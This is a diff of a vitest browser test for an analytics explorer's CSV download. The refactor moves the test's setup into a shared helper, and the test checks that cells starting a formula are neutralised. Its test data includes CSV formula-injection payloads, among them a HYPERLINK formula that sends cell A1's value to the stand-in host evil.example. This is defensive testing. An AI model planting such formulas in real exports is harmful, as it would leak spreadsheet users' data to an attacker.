@@ -4,40 +4,30 @@
  * them exactly as stored.
  */
 import { readFileSync } from "node:fs";
-import type { RunningServer } from "@ctr/query-api";
-import type { Store } from "@ctr/schemas";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { insertViews, openTestStore, serveApi, truncateTables } from "./support/api_server.ts";
-import { openBrowser } from "./support/browser.ts";
+import { type ApiInBrowser, openApiInBrowser } from "./support/browser_api.ts";
 import { needs } from "./support/services.ts";
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1"];
 const QUERY = "startTimestamp=2016-02-01%2010:00:00&endTimestamp=2016-02-01%2012:00:00&aggregation=60";
 
-let store: Store;
-let closeStore: (() => Promise<void>) | undefined;
-let server: RunningServer | undefined;
-let browser: Awaited<ReturnType<typeof openBrowser>> | undefined;
+let opened: ApiInBrowser | undefined;
 
+// Runs only when the block below does (vitest skips a file's hooks when all its tests are skipped).
 beforeAll(async () => {
-  ({ store, close: closeStore } = await openTestStore());
-  await truncateTables(store);
-  await insertViews(store, [
+  opened = await openApiInBrowser([
     ...FORMULAS.map((product) => ({ at: "2016-02-01 10:05", platform: "iOS" as const, product, count: 2 })),
     { at: "2016-02-01 11:00", platform: "Android", product: "PLAIN-1", count: 1 },
   ]);
-  server = await serveApi(store);
-  browser = await openBrowser();
 });
 afterAll(async () => {
-  await browser?.close();
-  await server?.close();
-  await closeStore?.();
+  await opened?.close();
 });
 
 describe("the explorer's CSV download in Chromium", needs("chromium"), () => {
   it("neutralises cells that start a formula; the API's CSV stays exact", async () => {
-    if (!browser || !server) throw new Error("not started");
+    if (!opened) throw new Error("not started");
+    const { server, browser } = opened;
     const api = await (await fetch(`${server.url}/ctr?${QUERY}`, { headers: { Accept: "text/csv" } })).text();
     for (const product of FORMULAS) expect(api).toContain(`"${product.replaceAll('"', '""')}"`);
 
